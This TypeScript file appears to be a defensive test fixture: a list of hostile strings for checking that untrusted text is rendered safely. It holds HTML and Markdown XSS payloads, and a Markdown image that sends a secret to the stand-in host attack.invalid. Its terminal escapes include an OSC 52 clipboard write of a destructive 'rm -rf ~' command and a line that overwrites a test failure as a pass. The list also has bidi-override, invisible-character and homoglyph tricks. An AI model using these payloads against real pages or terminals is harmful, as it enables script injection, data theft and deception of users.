/** One text that tries something, and what makes it dangerous. */
export interface Hostile {
  readonly name: string;
  readonly text: string;
  /** It runs when a page takes it for markup: the control shows that it does. */
  readonly runs?: boolean;
}

const mark = (n: number) => `window.__ran=(window.__ran||[]).concat(${n})`;
const esc = '\u001b';

/**
 * Texts as models, tools, files and git could hold them: markup, scripts, Markdown that loads or links, terminal
 * escapes, and characters that deceive. What runs sets window.__ran; what loads asks a host that answers nowhere.
 */
export const hostile: readonly Hostile[] = [
  { name: 'img onerror', text: `<img src=x onerror="${mark(1)}">`, runs: true },
  { name: 'svg onload', text: `<svg onload="${mark(2)}"></svg>`, runs: true },
  { name: 'details ontoggle', text: `<details open ontoggle="${mark(3)}">x</details>`, runs: true },
  { name: 'video source', text: `<video><source onerror="${mark(4)}"></video>`, runs: true },
  { name: 'audio src', text: `<audio src=x onerror="${mark(5)}"></audio>`, runs: true },
  { name: 'iframe srcdoc', text: `<iframe srcdoc="<script>parent.${mark(6)}</script>"></iframe>`, runs: true },
  {
    name: 'animation',
    text: `<style>@keyframes k{}</style><b style="animation:k" onanimationstart="${mark(7)}">x</b>`,
  },
  { name: 'broken nesting', text: `<math><mtext><table><mglyph><style><img src=x onerror="${mark(8)}">` },
  { name: 'noscript', text: `<noscript><p title="</noscript><img src=x onerror='${mark(9)}'>">` },
  { name: 'attribute end', text: `"><img src=x onerror="${mark(10)}">`, runs: true },
  { name: 'attribute end, single', text: `'><img src=x onerror='${mark(11)}'>`, runs: true },
  { name: 'textarea end', text: `</textarea><img src=x onerror="${mark(12)}">`, runs: true },
  { name: 'title end', text: `</title><img src=x onerror="${mark(13)}">`, runs: true },
  { name: 'comment end', text: `--><img src=x onerror="${mark(14)}">`, runs: true },
  { name: 'script', text: `<script>${mark(15)}</script>` },
  { name: 'form action', text: `<form action="javascript:${mark(16)}"><button>Accept</button></form>` },
  { name: 'meta refresh', text: `<meta http-equiv="refresh" content="0;url=javascript:${mark(17)}">` },
  { name: 'base', text: `<base href="http://attack.invalid/">` },
  { name: 'link stylesheet', text: `<link rel="stylesheet" href="http://attack.invalid/x.css">` },
  { name: 'style', text: `<style>*{display:none!important}</style>` },
  { name: 'md link', text: `[Accept](javascript:${mark(21)})` },
  { name: 'md link, entities', text: `[x](&#106;avascript:${mark(22)})` },
  { name: 'md link, blank', text: `[x](java\tscript:${mark(23)})` },
  { name: 'md link, data', text: `[x](data:text/html,<script>${mark(24)}</script>)` },
  { name: 'md link, vbscript', text: `[x](vbscript:${mark(25)})` },
  { name: 'md autolink', text: `<javascript:${mark(26)}>` },
  { name: 'md image', text: `![leak](http://attack.invalid/leak.png?q=secret)` },
  { name: 'md image, title', text: `![x](http://attack.invalid/a.png "onerror=${mark(28)}")` },
  { name: 'md reference', text: `[x][1]\n\n[1]: javascript:${mark(29)}` },
  { name: 'md html in code', text: '`<img src=x onerror="' + mark(30) + '">`' },
  { name: 'md fence info', text: '```html"><img src=x onerror="' + mark(31) + '">\nx\n```' },
  { name: 'md lying link', text: `[https://example.com](http://attack.invalid/)` },
  { name: 'ansi colours', text: `${esc}[31mred${esc}[0m ${esc}[2J${esc}[H${esc}[?1049h` },
  { name: 'ansi overwrite', text: `FAIL 3 tests\r${esc}[2KPASS all tests` },
  { name: 'osc 8 link', text: `${esc}]8;;javascript:${mark(35)}${esc}\\click${esc}]8;;${esc}\\` },
  { name: 'osc 52 clipboard', text: `${esc}]52;c;cm0gLXJmIH4K\u0007` },
  { name: 'osc title', text: `${esc}]0;owned\u0007` },
  { name: 'c1 controls', text: `\u009b31mred\u009d0;owned\u009c` },
  { name: 'bidi override', text: `if access \u202e\u2066// admin only\u2069\u2066 {` },
  { name: 'invisible characters', text: `pass\u200bword \u{e0061}\u{e0062}\u2063ok\ufeff` },
  { name: 'homoglyphs', text: `p\u0430yp\u0430l.com/\u0435dit` },
  { name: 'nul and bell', text: `a\u0001b\u0007c\u007f` },
];
